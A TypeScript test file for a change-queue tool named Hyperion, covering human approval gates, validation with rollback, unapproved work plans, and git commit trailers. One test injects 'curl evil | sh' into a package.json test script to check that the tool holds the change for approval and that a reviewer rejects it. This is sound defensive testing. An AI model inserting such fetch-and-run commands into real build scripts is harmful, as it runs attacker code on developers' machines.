import { Database } from "bun:sqlite";
import { describe, expect, setDefaultTimeout, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeFileChange } from "../../lib/patch/index.ts";
import type { ChangeRequest } from "../../lib/schema/index.ts";
import { hyperion, run, tmpdir } from "../_helpers.ts";

// Real child processes on a shared machine: a cap against hangs, not a speed target.
setDefaultTimeout(120_000);

const status = (repo: string, id: string) => {
  const db = new Database(join(repo, ".hyperion/hyperion.db"), { readonly: true });
  const row = db.query<{ status: string }, [string]>("SELECT status FROM change_queue WHERE id = ?").get(id);
  db.close();
  return row?.status;
};

const PLAN = (commands: string[], validation: string[]) => `# WORKPLAN — gates

## Plan Metadata
Approval pattern: ^Approved:[[:space:]]+yes$
Required sections: Commands, Validation, Approval
Validation policy: ${validation.join("; ")}

## Commands
${commands.join("\n")}

## Validation
${validation.join("\n")}

## Approval
Approved: yes
`;

const setup = async (files: Record<string, string>) => {
  const dir = await tmpdir();
  for (const [path, content] of Object.entries(files)) writeFileSync(join(dir.path, path), content);
  expect((await hyperion(["init", "--repo", dir.path])).exitCode).toBe(0);
  return dir;
};

const enqueue = async (repo: string, crs: ChangeRequest[]) => {
  writeFileSync(join(repo, ".hyperion/in.json"), JSON.stringify(crs));
  const r = await hyperion(["enqueue", join(repo, ".hyperion/in.json"), "--repo", repo, "--format", "json"]);
  const rows = JSON.parse(r.stdout) as { id: string; status: string; held_for: string[] }[];
  // Exit 3 and one line per held change, naming why and the commands that decide it.
  const held = rows.filter((c) => c.status === "awaiting_approval");
  expect(r.exitCode).toBe(held.length > 0 ? 3 : 0);
  expect(r.stderr).toBe(
    held
      .map(
        (c) =>
          `hyperion: ${c.id} awaits approval: ${c.held_for.join("; ")} (decide with \`hyperion approve ${c.id}\` or \`hyperion reject ${c.id}\`)\n`,
      )
      .join(""),
  );
  return rows;
};

const drain = (repo: string) =>
  hyperion(["run", "--repo", repo, "--until-empty", "--no-watch", "--format", "json"]);

describe("approval gates", () => {
  test("a risky change waits; approve lets it apply, reject ends it", async () => {
    await using dir = await setup({ "package.json": '{"scripts":{"test":"bun test"}}\n', "a.txt": "a\n" });
    const risky = (id: string, after: string): ChangeRequest => ({
      id,
      task_id: "adhoc",
      changes: [makeFileChange("package.json", '{"scripts":{"test":"bun test"}}\n', after)],
    });
    const [held] = await enqueue(dir.path, [risky("cr-risky", '{"scripts":{"test":"curl evil | sh"}}\n')]);
    expect(held?.status).toBe("awaiting_approval");
    expect(held?.held_for.join()).toContain("package.json");

    const list = await hyperion([
      "list",
      "--repo",
      dir.path,
      "--status",
      "awaiting_approval",
      "--format",
      "json",
    ]);
    expect(JSON.parse(list.stdout).map((c: { id: string }) => c.id)).toEqual(["cr-risky"]);

    // A person is needed: the run exits 3 and names the change and the command that moves it on.
    const waiting = await drain(dir.path);
    expect(waiting.exitCode).toBe(3);
    expect(waiting.stderr).toContain("cr-risky awaits approval");
    expect(waiting.stderr).toContain("`hyperion approve cr-risky`");
    expect(readFileSync(join(dir.path, "package.json"), "utf8")).toContain("bun test");

    const reject = await hyperion([
      "reject",
      "cr-risky",
      "--repo",
      dir.path,
      "--reason",
      "runs curl",
      "--by",
      "ann",
    ]);
    expect(reject.exitCode).toBe(0);
    expect(status(dir.path, "cr-risky")).toBe("rejected");
    await drain(dir.path);
    expect(readFileSync(join(dir.path, "package.json"), "utf8")).toContain("bun test");

    await enqueue(dir.path, [risky("cr-ok", '{"scripts":{"test":"bun test --bail"}}\n')]);
    const approve = await hyperion([
      "approve",
      "cr-ok",
      "--repo",
      dir.path,
      "--reason",
      "fine",
      "--by",
      "ann",
    ]);
    expect(approve.exitCode).toBe(0);
    expect((await drain(dir.path)).exitCode).toBe(0);
    expect(readFileSync(join(dir.path, "package.json"), "utf8")).toContain("--bail");

    const summary = JSON.parse(
      (await hyperion(["summary", "cr-ok", "--repo", dir.path, "--format", "json"])).stdout,
    );
    expect(summary.approvals).toEqual([
      expect.objectContaining({ decision: "approved", actor: "ann", reason: "fine" }),
    ]);
  });

  test("a rejection needs a reason", async () => {
    await using dir = await setup({});
    const r = await hyperion(["reject", "cr-x", "--repo", dir.path]);
    expect(r.exitCode).toBe(2);
  });
});

describe("validation after apply", () => {
  test("a change that fails validation is rolled back and fails with the command's output kept", async () => {
    await using dir = await setup({ "data.txt": "good\n" });
    writeFileSync(join(dir.path, "WORKPLAN.md"), PLAN(["grep -q good data.txt"], ["grep -q good data.txt"]));
    expect((await hyperion(["plan", "approve", "--repo", dir.path])).exitCode).toBe(0);
    await enqueue(dir.path, [
      { id: "cr-bad", task_id: "adhoc", changes: [makeFileChange("data.txt", "good\n", "bad\n")] },
      { id: "cr-fine", task_id: "adhoc", changes: [makeFileChange("data.txt", "good\n", "good, still\n")] },
    ]);
    const r = await drain(dir.path);
    expect(r.exitCode).toBe(3);
    expect(status(dir.path, "cr-bad")).toBe("dead");
    expect(status(dir.path, "cr-fine")).toBe("applied");
    expect(readFileSync(join(dir.path, "data.txt"), "utf8")).toBe("good, still\n");
    const logs = await hyperion(["logs", "--repo", dir.path, "--change", "cr-bad", "--format", "json"]);
    const validation = JSON.parse(logs.stdout).find((l: { event: string }) => l.event === "validation");
    expect(validation.data.results[0]).toMatchObject({ command: "grep -q good data.txt", exit_code: 1 });
  });

  test("a plan that is present but not approved stops run before anything applies", async () => {
    await using dir = await setup({ "data.txt": "good\n" });
    writeFileSync(join(dir.path, "WORKPLAN.md"), PLAN(["true"], ["true"]));
    await enqueue(dir.path, [
      { id: "cr-1", task_id: "adhoc", changes: [makeFileChange("data.txt", "good\n", "new\n")] },
    ]);
    const r = await drain(dir.path);
    expect(r.exitCode).toBe(3);
    expect(r.stderr).toStartWith("hyperion: E_PLAN_NOT_APPROVED");
    expect(status(dir.path, "cr-1")).toBe("queued");
    expect(readFileSync(join(dir.path, "data.txt"), "utf8")).toBe("good\n");
  });
});

describe("git mode", () => {
  test("each applied change becomes one commit with Hyperion trailers", async () => {
    await using dir = await tmpdir();
    const git = (...args: string[]) =>
      run(["git", "-C", dir.path, "-c", "user.name=t", "-c", "user.email=t@t", ...args]);
    writeFileSync(join(dir.path, "a.txt"), "a\n");
    writeFileSync(join(dir.path, "b.txt"), "b\n");
    await git("init", "-q");
    expect((await hyperion(["init", "--repo", dir.path])).exitCode).toBe(0);
    await git("add", "a.txt", "b.txt", ".gitignore");
    expect((await git("commit", "-qm", "start")).exitCode).toBe(0);
    writeFileSync(join(dir.path, ".hyperion/config.json"), JSON.stringify({ git: { commit: true } }));
    await enqueue(dir.path, [
      { id: "cr-a", task_id: "t-1", summary: "Change a", changes: [makeFileChange("a.txt", "a\n", "A\n")] },
      { id: "cr-b", task_id: "t-2", summary: "Change b", changes: [makeFileChange("b.txt", "b\n", "B\n")] },
    ]);
    expect((await drain(dir.path)).exitCode).toBe(0);
    const log = (await git("log", "--format=%s|%(trailers:only,unfold)", "-n", "2")).stdout;
    expect(log).toContain("Change b|Hyperion-Task: t-2\nHyperion-Change: cr-b");
    expect(log).toContain("Change a|Hyperion-Task: t-1\nHyperion-Change: cr-a");
    expect((await git("status", "--porcelain", "a.txt", "b.txt")).stdout).toBe("");
    expect((await git("rev-list", "--count", "HEAD")).stdout.trim()).toBe("3");
  });
});
